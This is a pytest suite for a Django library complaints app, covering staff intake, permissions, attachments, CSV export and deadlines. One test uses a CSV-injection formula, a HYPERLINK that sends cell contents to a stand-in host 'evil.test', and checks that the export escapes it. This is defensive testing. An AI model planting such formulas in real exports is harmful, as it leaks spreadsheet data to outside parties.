"""The complaint pages as staff use them: URLs, forms, 404s, files, CSV."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from complaints import services
from complaints.models import Complaint, ComplaintAttachment

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")


def login(client, user):
    client.force_login(user)
    return client


def test_desk_logs_a_concern_in_one_post(client, desk_staff, weekday_hours, subject):
    login(client, desk_staff)
    page = client.get(reverse("complaints:create"))
    assert page.status_code == 200
    assert b"autofocus" in page.content
    assert "What happened" in page.text
    response = client.post(
        reverse("complaints:create"),
        {
            "description": "Rude reply at the desk.",
            "category": "service",
            "channel": "phone",
            "patron_name": "",
        },
    )
    complaint = Complaint.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("complaints:detail", args=[complaint.pk])
    assert complaint.channel == "phone"


def test_a_bad_intake_is_a_400_with_messages_and_nothing_saved(client, desk_staff, weekday_hours):
    login(client, desk_staff)
    response = client.post(reverse("complaints:create"), {"category": "nonsense"})
    assert response.status_code == 400
    assert "This field is required." in response.text
    assert not Complaint.objects.exists()


def test_logging_a_complaint_about_oneself_leads_back_to_the_list(
    client, desk_staff, weekday_hours
):
    login(client, desk_staff)
    response = client.post(
        reverse("complaints:create"),
        {
            "description": "About me.",
            "category": "staff_conduct",
            "channel": "in_person",
            "staff_involved": [desk_staff.pk],
        },
    )
    assert response["Location"] == reverse("complaints:list")


def test_administrator_cannot_open_the_intake(client, administrator):
    assert login(client, administrator).get(reverse("complaints:create")).status_code == 403


def test_subject_gets_404_on_detail_letter_and_attachment(
    client, log_complaint, subject, desk_staff
):
    complaint = log_complaint()
    attachment = services.complaint_add_attachment(
        complaint=complaint,
        acting_user=desk_staff,
        upload=SimpleUploadedFile("note.txt", b"hello"),
        content_type="text/plain",
    )
    login(client, subject)
    assert client.get(reverse("complaints:detail", args=[complaint.pk])).status_code == 404
    assert client.get(reverse("complaints:attachment", args=[attachment.pk])).status_code == 404
    assert client.get(reverse("complaints:letter", args=[complaint.pk])).status_code == 404
    listing = client.get(reverse("complaints:list"), {"status": "all"})
    assert complaint.reference not in listing.text


def test_list_does_not_show_the_subject_their_complaint_in_search_or_counts(
    client, log_complaint, subject, supervisor
):
    log_complaint()
    login(client, subject)
    listing = client.post(reverse("complaints:list"), {"status": "all", "q": "rudely"})
    assert "0 concerns" in listing.text
    review = client.get(reverse("complaints:review"))
    assert "Counts (0 complaints)" in review.text


def test_attachment_upload_sniffs_content_and_serves_only_through_the_view(
    client, log_complaint, desk_staff, supervisor
):
    complaint = log_complaint()
    login(client, desk_staff)
    url = reverse("complaints:attachment_upload", args=[complaint.pk])
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 20
    response = client.post(url, {"file": SimpleUploadedFile("photo.exe", png)})
    assert response.status_code == 302
    attachment = ComplaintAttachment.objects.get()
    assert attachment.content_type == "image/png"
    assert "photo" not in attachment.file.name  # random name on disk
    login(client, supervisor)
    download = client.get(reverse("complaints:attachment", args=[attachment.pk]))
    assert download.status_code == 200
    assert download["Content-Type"] == "image/png"
    assert b"".join(download.streaming_content) == png


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00", "Only PDF, PNG, JPEG and plain-text files"),
        (b"", "The submitted file is empty."),
    ],
)
def test_attachment_of_a_wrong_type_is_a_400(client, log_complaint, desk_staff, payload, message):
    complaint = log_complaint()
    login(client, desk_staff)
    response = client.post(
        reverse("complaints:attachment_upload", args=[complaint.pk]),
        {"file": SimpleUploadedFile("x.pdf", payload)},
    )
    assert response.status_code == 400
    assert message in response.text
    assert not ComplaintAttachment.objects.exists()


def test_attachment_over_the_size_limit_is_a_400(client, log_complaint, desk_staff, settings):
    from complaints import forms

    complaint = log_complaint()
    login(client, desk_staff)
    big = b"%PDF-" + b"0" * (forms.MAX_ATTACHMENT_BYTES)
    response = client.post(
        reverse("complaints:attachment_upload", args=[complaint.pk]),
        {"file": SimpleUploadedFile("big.pdf", big)},
    )
    assert response.status_code == 400
    assert "larger than 10 MB" in response.text


def test_full_flow_desk_supervisor_director_letter(
    client, desk_staff, supervisor, director, weekday_hours
):
    director.staff_profile.display_name = "Morgan"
    director.staff_profile.save()
    login(client, desk_staff)
    client.post(
        reverse("complaints:create"),
        {
            "description": "Charged twice.",
            "category": "policy",
            "channel": "in_person",
            "patron_name": "Jo Example",
        },
    )
    complaint = Complaint.objects.get()
    login(client, supervisor)
    detail = client.get(reverse("complaints:detail", args=[complaint.pk]))
    assert "Escalate to the Director or a designee" in detail.text
    client.post(
        reverse("complaints:escalate", args=[complaint.pk]),
        {"assignee": director.pk, "note": "Please review."},
    )
    login(client, director)
    review = client.get(reverse("complaints:review"))
    assert complaint.reference in review.text
    response = client.post(
        reverse("complaints:decide", args=[complaint.pk]),
        {"decision": "upheld", "reasons": "We charged twice; refunded."},
    )
    assert response.status_code == 302
    letter = client.get(reverse("complaints:letter", args=[complaint.pk]))
    assert letter.status_code == 200
    assert "Dear Jo Example" in letter.text
    assert "We charged twice; refunded." in letter.text
    assert "Morgan" in letter.text
    assert "Print letter" in letter.text


def test_supervisor_gets_403_when_trying_to_decide(client, escalated, supervisor):
    login(client, supervisor)
    response = client.post(
        reverse("complaints:decide", args=[escalated.pk]),
        {"decision": "upheld", "reasons": "x"},
    )
    assert response.status_code == 403


def test_decide_without_reasons_is_a_400(client, escalated, director):
    login(client, director)
    response = client.post(
        reverse("complaints:decide", args=[escalated.pk]), {"decision": "upheld"}
    )
    assert response.status_code == 400
    assert "This field is required." in response.text


def test_csv_has_no_patron_names_and_only_visible_rows(
    client, log_complaint, supervisor, other_supervisor
):
    complaint = log_complaint()
    login(client, supervisor)
    response = client.get(reverse("complaints:review_csv"))
    assert response.status_code == 200
    assert response.streaming  # a line at a time, never held whole
    body = b"".join(response.streaming_content).decode()
    assert body.splitlines()[0].startswith("reference,branch,category")
    assert complaint.reference in body
    assert "Jo Example" not in body and "jo@example.org" not in body
    login(client, other_supervisor)
    other = client.get(reverse("complaints:review_csv"))
    assert complaint.reference not in b"".join(other.streaming_content).decode()


def test_the_csv_writes_a_formula_shaped_name_as_text_and_still_streams(
    client, escalated, director
):
    """A staff display name is typed by people: one that a spreadsheet would
    run as a formula goes out behind the apostrophe the reports use."""
    director.staff_profile.display_name = '=HYPERLINK("http://evil.test/?"&A2,"x")'
    director.staff_profile.save()
    response = login(client, director).get(reverse("complaints:review_csv"))
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="complaints.csv"'
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assignee = rows[0].index("assignee")
    assert [row[assignee] for row in rows[1:]] == ['\'=HYPERLINK("http://evil.test/?"&A2,"x")']


def test_desk_staff_cannot_open_the_review_desk(client, desk_staff):
    assert login(client, desk_staff).get(reverse("complaints:review")).status_code == 403


def test_review_page_highlights_breaches_with_text(client, escalated, director):
    services.complaints_check_clocks(now=escalated.first_response_due.replace(year=2027))
    login(client, director)
    page = client.get(reverse("complaints:review"))
    assert "Deadline missed" in page.text
    assert "row-breach" in page.text
    assert "<svg" in page.text and "Complaints by category" in page.text


def test_list_query_count_does_not_grow_with_rows(
    client, log_complaint, supervisor, django_assert_max_num_queries
):
    for _ in range(12):
        log_complaint()
    login(client, supervisor)
    with django_assert_max_num_queries(12):
        response = client.get(reverse("complaints:list"))
    assert response.text.count("C-0") >= 12


def test_review_query_count_does_not_grow_with_rows(
    client, log_complaint, supervisor, director, django_assert_max_num_queries
):
    for _ in range(8):
        services.complaint_escalate(
            complaint=log_complaint(), acting_user=supervisor, assignee=director
        )
    login(client, director)
    with django_assert_max_num_queries(16):
        client.get(reverse("complaints:review"))


def test_nav_links_follow_capabilities(client, desk_staff, director):
    home = login(client, desk_staff).get(reverse("complaints:list"))
    assert "Concerns" in home.text and "Director's desk" not in home.text
    page = login(client, director).get(reverse("complaints:list"))
    assert "Director's desk" in page.text


def test_log_a_concern_from_the_desk_screen_links_the_patron(
    client, desk_staff, patron, weekday_hours
):
    login(client, desk_staff)
    page = client.get(reverse("complaints:create"), {"patron": patron.pk})
    assert patron.full_name in page.text
    assert patron.email in page.text  # desk staff may see contact details
    client.post(
        reverse("complaints:create"),
        {
            "description": "Hold was lost.",
            "category": "service",
            "channel": "in_person",
            "patron_id": patron.pk,
            "patron_name": patron.full_name,
        },
    )
    assert Complaint.objects.get().patron == patron


def test_a_volunteer_gets_no_patron_contact_prefilled(client, volunteer, patron, weekday_hours):
    login(client, volunteer)
    page = client.get(reverse("complaints:create"), {"patron": patron.pk})
    assert patron.full_name in page.text
    assert patron.email not in page.text


def test_an_unknown_patron_id_is_a_400(client, desk_staff, weekday_hours):
    login(client, desk_staff)
    response = client.post(
        reverse("complaints:create"),
        {"description": "x", "category": "service", "channel": "in_person", "patron_id": 999999},
    )
    assert response.status_code == 400
    assert "No patron has that number." in response.text


def test_the_desk_screen_offers_log_a_concern_for_the_patron_in_view(client, desk_staff, card):
    login(client, desk_staff)
    response = client.get(reverse("desk:patron", args=[card.patron.pk]))
    assert response.status_code == 200
    link = reverse("complaints:create") + f"?patron={card.patron.pk}"
    assert link in response.text
    assert "Log a concern" in response.text


def test_deadlines_show_in_the_branchs_own_timezone(
    client, log_complaint, supervisor, director, branch
):
    """A Chicago branch's 17:00 closing is shown as 17:00, not New York's 18:00."""
    import datetime
    from zoneinfo import ZoneInfo

    branch.timezone = "America/Chicago"
    branch.save()
    complaint = services.complaint_escalate(
        complaint=log_complaint(),
        acting_user=supervisor,
        assignee=director,
        now=datetime.datetime(2026, 11, 23, 10, tzinfo=ZoneInfo("America/Chicago")),
    )
    assert complaint.first_response_due == datetime.datetime(
        2026, 11, 24, 17, tzinfo=ZoneInfo("America/Chicago")
    )
    login(client, director)
    page = client.get(reverse("complaints:detail", args=[complaint.pk]))
    assert "Tue 24 Nov 2026, 17:00" in page.text
    csv_text = b"".join(client.get(reverse("complaints:review_csv")).streaming_content).decode()
    assert "2026-11-24T17:00-06:00" in csv_text


def test_supervisor_review_shows_only_their_branch(
    client, log_complaint, other_supervisor, supervisor, other_branch, make_staff
):
    from organisation.roles import Role

    here = log_complaint()
    there_desk = make_staff(Role.DESK_STAFF, at=other_branch, username="t-desk-there")
    there = services.complaint_log(
        branch=other_branch, logged_by=there_desk, category="other", description="Elsewhere."
    )
    login(client, supervisor)
    page = client.get(reverse("complaints:review"))
    assert here.reference in page.text and there.reference not in page.text
    assert "Counts (1 complaint)" in page.text
    login(client, other_supervisor)
    page = client.get(reverse("complaints:review"))
    assert there.reference in page.text and here.reference not in page.text


def test_an_invalid_field_points_at_its_error_message(client, escalated, director):
    login(client, director)
    response = client.post(reverse("complaints:decide", args=[escalated.pk]), {"decision": "x"})
    assert response.status_code == 400
    assert 'aria-describedby="id_reasons_error"' in response.text
    assert 'id="id_reasons_error"' in response.text
    assert 'aria-invalid="true"' in response.text


def test_incident_and_comment_lists_keep_query_counts_flat(
    client, branch, desk_staff, supervisor, director, django_assert_max_num_queries
):
    from complaints.models import CommentCard, Incident

    for n in range(10):
        Incident.objects.create(
            branch=branch, type="safety", description=f"n{n}", reported_by=desk_staff
        )
        CommentCard.objects.create(branch=branch, theme="hours", text=f"c{n}")
    login(client, supervisor)
    with django_assert_max_num_queries(12):
        assert client.get(reverse("complaints:incident_list")).status_code == 200
    with django_assert_max_num_queries(12):
        assert client.get(reverse("complaints:comment_report")).status_code == 200
    login(client, director)
    with django_assert_max_num_queries(12):
        assert client.get(reverse("complaints:reconsideration_list")).status_code == 200


def test_a_volunteer_who_logged_a_concern_does_not_see_the_contact_details(
    client, volunteer, log_complaint
):
    complaint = log_complaint(logged_by=volunteer)
    page = login(client, volunteer).get(reverse("complaints:detail", args=[complaint.pk]))
    assert page.status_code == 200
    assert "jo@example.org" not in page.text
    assert "Contact on file (staff only)" in page.text


def test_review_desk_orders_in_the_database_as_the_deadlines_say_and_pages(
    client, log_complaint, supervisor, director, monkeypatch
):
    """Missed deadlines first, then the nearest running clock (the model's
    next_deadline), then the oldest; cut into pages by the database."""
    import datetime

    from complaints import selectors

    monkeypatch.setattr(selectors, "REVIEW_PAGE_SIZE", 3)
    made = [log_complaint() for _ in range(5)]
    now = timezone.now()
    for n, complaint in enumerate(made[:4]):
        services.complaint_escalate(complaint=complaint, acting_user=supervisor, assignee=director)
        # Distinct resolution deadlines, in the reverse order of logging.
        Complaint.objects.filter(pk=complaint.pk).update(
            resolution_due=now + datetime.timedelta(days=20 - n)
        )
    Complaint.objects.filter(pk=made[2].pk).update(resolution_breached_at=now)
    expected = sorted(
        Complaint.objects.filter(pk__in=[c.pk for c in made]),
        key=lambda c: (not c.is_breached, c.next_deadline or now.replace(year=9999), c.created_at),
    )
    login(client, supervisor)
    first = client.get(reverse("complaints:review"))
    second = client.get(reverse("complaints:review"), {"page": 2})
    shown = [c.pk for c in first.context["complaints"]] + [
        c.pk for c in second.context["complaints"]
    ]
    assert shown == [c.pk for c in expected]
    assert shown[0] == made[2].pk  # the missed deadline leads
    assert "Page 1 of 2" in first.text and "(5 waiting)" in first.text
    assert 'rel="next"' in first.text and 'rel="prev"' in second.text
    # A page that does not exist shows the last one, not an error.
    assert client.get(reverse("complaints:review"), {"page": "x9"}).status_code == 200
